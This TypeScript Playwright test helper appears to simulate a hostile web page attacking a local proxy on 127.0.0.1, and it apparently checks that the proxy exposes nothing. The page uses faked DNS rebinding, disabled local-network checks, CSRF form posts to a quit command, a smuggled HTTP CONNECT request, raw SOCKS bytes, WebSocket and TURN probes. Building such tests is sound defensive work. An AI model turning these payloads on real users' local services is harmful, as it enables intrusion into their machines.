// The worst web page, in the person's own browser: it calls ports of this machine by every means a page has, as a stranger and under a name that was bound to
// this machine after the page had come.
import type { BrowserContext } from 'playwright-core'

/** What the page was able to tell of each attempt. */
export type Loot = Readonly<Record<string, unknown>>

const REBOUND = 'rebound.example'

/** A browser for it: the attacker's name server has changed its mind there, and it does not keep pages of far away from this machine, as newer ones begin to. */
export const CARELESS: readonly string[] = [`--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`, '--disable-features=LocalNetworkAccessChecks']

export interface Attack {
  /** Where the page is at home: an origin of this machine, the kindest one that a stranger's page can have. */
  readonly home: string
  readonly port: number
  /** A URL that the attacker would have fetched through the proxy. */
  readonly wanted: string
}

/** Resolves when all was tried. */
export async function attack(context: BrowserContext, { home, port, wanted }: Attack): Promise<Loot> {
  const page = await context.newPage()
  try {
    await page.goto(home)
    const asStranger = await page.evaluate(reachOut, { here: `127.0.0.1:${port}`, wanted })
    // The page as it came from the attacker's own machine, before its name meant this one.
    const site = `http://${REBOUND}:${port}`
    await page.route(`${site}/page`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>rebound</title>' }))
    await page.goto(`${site}/page`)
    const asOwn = await page.evaluate(reachOut, { here: `${REBOUND}:${port}`, wanted })
    const named = (who: string, loot: Loot): object =>
      Object.fromEntries(Object.entries(loot).map(([how, what]) => [`${who}: ${how}`, what]))
    return { ...named('stranger', asStranger), ...named('rebound', asOwn) }
  } finally {
    await page.close()
  }
}

/** Runs in the page, and holds all that it needs. */
async function reachOut({ here, wanted }: { readonly here: string; readonly wanted: string }): Promise<Record<string, unknown>> {
  const url = `http://${here}`
  const socksRequest = new Uint8Array([5, 1, 0, 5, 1, 0, 1, 127, 0, 0, 1, 0, 80])
  const smuggled = `GET ${wanted} HTTP/1.1\r\nHost: x\r\n\r\nCONNECT ${wanted.slice(7).replace(/\/.*/, '')} HTTP/1.1\r\n\r\n`
  const read = async (path: string, options?: RequestInit): Promise<unknown> => {
    try {
      const response = await fetch(`${url}${path}`, options)
      if (response.type === 'opaque') return 'opaque'
      return { status: response.status, headers: [...response.headers.keys()], body: await response.text() }
    } catch {
      return 'refused'
    }
  }
  const ask = (path: string, options: RequestInit): Promise<unknown> => read(path, { mode: 'no-cors', credentials: 'include', ...options })
  const socket = (protocols: string[]): Promise<unknown> =>
    new Promise((resolve) => {
      const opened = new WebSocket(`ws://${here}/`, protocols)
      opened.onopen = () => resolve('open')
      opened.onmessage = ({ data }) => resolve(data)
      opened.onerror = () => resolve('refused')
    })
  const load = (name: 'script' | 'img' | 'link', path: string): Promise<unknown> =>
    new Promise((resolve) => {
      const element = document.createElement(name)
      element.onload = () => resolve('loaded')
      element.onerror = () => resolve('refused')
      if (element instanceof HTMLLinkElement) Object.assign(element, { rel: 'stylesheet', href: `${url}${path}` })
      else element.src = `${url}${path}`
      document.head.append(element)
    })
  const submit = (enctype: string, value: string): Promise<unknown> =>
    new Promise((resolve) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `frame${Math.random()}` })
      const form = Object.assign(document.createElement('form'), {
        method: 'post',
        action: `${url}/command/quit`,
        target: frame.name,
        enctype,
      })
      const field = Object.assign(document.createElement('textarea'), { name: value, value })
      form.append(field)
      document.body.append(frame, form)
      frame.onload = () => resolve(frame.contentDocument?.body.textContent ?? 'closed to it')
      form.submit()
    })
  const watch = (): Promise<unknown> =>
    new Promise((resolve) => {
      const source = new EventSource(`${url}/status`, { withCredentials: true })
      source.onmessage = ({ data }) => resolve(data)
      source.onerror = () => {
        source.close()
        resolve('refused')
      }
    })
  /** Bytes of another protocol, by TCP, with nothing of HTTP before them. */
  const turn = async (): Promise<unknown> => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${here}?transport=tcp`, username: 'a', credential: 'b' }] })
    peer.createDataChannel('x')
    const found: string[] = []
    const gathered = new Promise<void>((resolve) => {
      peer.onicecandidate = ({ candidate }) => (candidate === null ? resolve() : found.push(candidate.type ?? ''))
    })
    await peer.setLocalDescription(await peer.createOffer())
    await gathered
    peer.close()
    return found.includes('relay') ? 'relayed' : 'refused'
  }
  const tries: Record<string, () => Promise<unknown>> = {
    'reads the first page': () => read('/'),
    'reads the status': () => read('/status', { credentials: 'include' }),
    'asks for a site in the path': () => read(`/${wanted}`),
    'asks with words of its own': () => read('/', { method: 'PUT', headers: { 'X-Culvert-Key': 'A'.repeat(43) }, body: '{}' }),
    'posts JSON': () => read('/command/disconnect', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '' }),
    'posts text': () => ask('/command/disconnect', { method: 'POST', body: '' }),
    'posts a request within a request': () => ask('/', { method: 'POST', body: smuggled }),
    'posts SOCKS': () => ask('/', { method: 'POST', body: socksRequest }),
    'opens a WebSocket': () => socket([]),
    'opens a WebSocket of a kind': () => socket(['culvert']),
    'watches events': watch,
    'runs it as a script': () => load('script', '/'),
    'shows it as a picture': () => load('img', '/favicon.ico'),
    'uses it as a style': () => load('link', '/main.css'),
    'posts a form': () => submit('application/x-www-form-urlencoded', 'a'),
    'posts a form of plain text': () => submit('text/plain', smuggled),
    'posts a form with a file’s kind': () => submit('multipart/form-data', smuggled),
    'speaks TURN': turn,
  }
  const loot: Record<string, unknown> = {}
  for (const [how, attempt] of Object.entries(tries)) loot[how] = await attempt()
  navigator.sendBeacon(`${url}/command/quit`, smuggled)
  return loot
}

/** What a page may know: that something is there which answers nothing. */
export function isNothing(what: unknown): boolean {
  if (typeof what === 'string') return ['refused', 'opaque', 'closed to it', ''].includes(what)
  const { status, headers, body } = what as { readonly status: number; readonly headers: readonly string[]; readonly body: string }
  return status >= 400 && body === '' && headers.every((name) => ['connection', 'content-length'].includes(name))
}
